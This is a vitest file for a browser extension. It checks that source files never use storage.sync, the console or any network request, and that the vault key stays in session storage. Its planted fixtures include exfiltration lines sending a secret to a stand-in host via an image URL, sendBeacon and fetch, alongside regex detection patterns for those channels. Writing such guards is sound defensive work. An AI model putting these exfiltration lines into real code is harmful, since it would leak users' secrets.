/**
 * Secrets stay on the machine: no source under src/ touches storage.sync, logs (a log line is
 * where a secret leaks first) or makes a network request, however it is spelled: through
 * `globalThis`/`self`, a bracketed name, an image's URL. Matching runs on the code view (see
 * sourceScan.ts), so help texts and code samples shown to the user, which are strings, never
 * count. test/dist/bundles.test.ts checks the built bundles; the extension's CSP
 * (connect-src 'none') makes the browser refuse a request even if one slipped through.
 */
import { describe, expect, it } from "vitest";
import { codeView, matchLines, parse, sourceFiles } from "./sourceScan";

/** Files that may call fetch, each with its reason. None has one today. */
const FETCH_ALLOWED: Record<string, string> = {};

const RULES: { what: string; pattern: RegExp; except?: Record<string, string> }[] = [
  {
    what: "storage.sync",
    pattern: /\bstorage\s*\??\.\s*sync\b|\bstorage\s*(\?\.)?\[\s*["'`]sync["'`]\s*\]/,
  },
  // any reference at all: console.log, globalThis.console, self["console"], const c = console
  { what: "console", pattern: /\bconsole\b/ },
  { what: "fetch", pattern: /\bfetch\b/, except: FETCH_ALLOWED },
  {
    what: "another way to send a request",
    pattern:
      /\b(sendBeacon|XMLHttpRequest|WebSocket|EventSource|importScripts)\b|\bnew\s+Image\b|\bcreateElement\s*\(\s*["'`](img|script|iframe|link)["'`]/,
  },
];

const views = new Map<string, string>();
const viewOf = (file: string) =>
  views.get(file) ?? views.set(file, codeView(parse(file))).get(file) ?? "";

function offences(file: string, text?: string): string[] {
  const sf = parse(file, text);
  const view = text === undefined ? viewOf(file) : codeView(sf);
  return RULES.flatMap(({ what, pattern, except }) =>
    except && Object.hasOwn(except, file)
      ? []
      : matchLines(sf, view, pattern).map((line) => `${file}:${line}: ${what}`),
  );
}

const SOURCES = sourceFiles("src");

describe("secrets stay local", () => {
  it("no source under src/ uses storage.sync, the console or the network", () => {
    expect(SOURCES.length).toBeGreaterThan(200);
    expect(SOURCES.flatMap((file) => offences(file))).toEqual([]);
    expect(Object.keys(FETCH_ALLOWED).filter((file) => !SOURCES.includes(file))).toEqual([]);
  });

  it("catches the indirect spellings, and not what is only a comment or a string", () => {
    const planted = [
      "// console.log(secret), fetch(url) and storage.sync in a comment are fine",
      'const help = "await fetch(first); console.log(x); storage.sync in a string are fine";',
      "globalThis.console.info(secret);",
      "const log = self.console;",
      'browser.storage["sync"].set(sides);',
      "chrome.storage['sync'];",
      "browser.storage?.sync;",
      "new Image().src = 'https://x.test/?s=' + secret;",
      "navigator.sendBeacon(url, secret);",
      "new XMLHttpRequest();",
      "new WebSocket(url);",
      "new EventSource(url);",
      "const f = globalThis.fetch;",
      'await fetch("http://x.test", { body: secret });',
    ].join("\n");
    expect(offences("src/shared/planted.ts", planted)).toEqual([
      "src/shared/planted.ts:5: storage.sync",
      "src/shared/planted.ts:6: storage.sync",
      "src/shared/planted.ts:7: storage.sync",
      "src/shared/planted.ts:3: console",
      "src/shared/planted.ts:4: console",
      "src/shared/planted.ts:13: fetch",
      "src/shared/planted.ts:14: fetch",
      "src/shared/planted.ts:8: another way to send a request",
      "src/shared/planted.ts:9: another way to send a request",
      "src/shared/planted.ts:10: another way to send a request",
      "src/shared/planted.ts:11: another way to send a request",
      "src/shared/planted.ts:12: another way to send a request",
    ]);
  });

  it("keeps the vault's key in storage.session only, and the passphrase field masked", () => {
    const vault = viewOf("src/shared/vault.ts");
    const uses = vault.match(/stores\.(local|session)\.(set|get|remove)\(SESSION_KEY/g) ?? [];
    expect(uses.length).toBeGreaterThan(0);
    expect(uses.every((use) => use.startsWith("stores.session."))).toBe(true);
    expect(SOURCES.filter((f) => viewOf(f).includes('"vault-key"'))).toEqual([
      "src/shared/vault.ts",
    ]);
    const controls = viewOf("src/panel/components/Vault/VaultControls.tsx");
    expect(controls).toMatch(/type="password"[^>]*data-testid="vault-passphrase"/s);
  });
});
